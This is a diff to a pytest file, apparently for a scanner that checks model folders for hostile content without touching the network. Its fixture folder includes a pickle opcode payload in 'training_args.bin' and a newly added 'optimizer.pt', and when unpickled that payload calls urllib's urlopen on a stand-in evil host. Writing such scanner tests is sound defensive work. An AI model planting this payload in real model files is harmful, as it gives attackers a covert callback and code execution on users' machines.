@@ -16,7 +16,7 @@ import pytest
 
 from fixtures.containers import safetensors
 from fixtures.folder import as_json, config, honest_tensors, save
-from fixtures.loopback_hub import LoopbackHub, read_folder
+from fixtures.loopback_hub import LoopbackHub, Sparse, read_folder
 from tests.conftest import ROOT
 
 TOKEN = "hf_plantedTokenOfNobody"
@@ -96,6 +96,9 @@ def hostile(port):
         "model.safetensors.index.json": as_json({"weight_map": {"w": f"{evil}/w.safetensors"}}),
         "README.md": f"---\nbase_model: {evil}\n---\n![x]({evil}/a.png)\n".encode(),
         ".gitattributes": b"*.bin filter=lfs\n",
+        "optimizer.pt": Sparse(
+            80 << 20, {0: f"curllib.request\nurlopen\n(S'{evil}'\ntR.".encode()}
+        ),
         "training_args.bin": f"curllib.request\nurlopen\n(S'{evil}'\ntR.".encode(),
     }
 
@@ -105,7 +108,7 @@ def test_a_folder_that_names_addresses_is_scanned_without_any_socket(trapped, tm
         folder = tmp_path / "adapter"
         folder.mkdir()
         for name, data in hostile(port).items():
-            (folder / name).write_bytes(data)
+            (folder / name).write_bytes(data[:])
         result, events = trapped("scan", folder, "-f", "json")
         assert len(json.loads(result.stdout)["reports"][0]["evidence"]) > 10
         assert events == []
